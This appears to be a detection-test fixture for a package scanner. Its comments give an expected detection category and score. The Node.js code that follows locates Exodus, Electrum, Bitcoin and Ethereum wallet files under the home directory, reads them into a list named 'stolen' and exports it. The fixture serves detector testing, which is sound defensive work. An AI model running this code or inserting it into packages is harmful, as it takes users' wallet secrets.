// expect: category=filesystem min=85 context=plugin,package
// why: wallet files of desktop crypto wallets are located from the home dir and copied out.
const fs = require('fs');
const os = require('os');
const path = require('path');

const home = os.homedir();
const wallets = [
  ['.config', 'Exodus', 'exodus.wallet'],
  ['.electrum', 'wallets', 'default_wallet'],
  ['.bitcoin', 'wallet.dat'],
  ['.ethereum', 'keystore'],
];

const stolen = [];
for (const parts of wallets) {
  const p = path.join(home, ...parts);
  if (fs.existsSync(p) && fs.statSync(p).isFile()) stolen.push([p, fs.readFileSync(p)]);
}

module.exports = stolen;
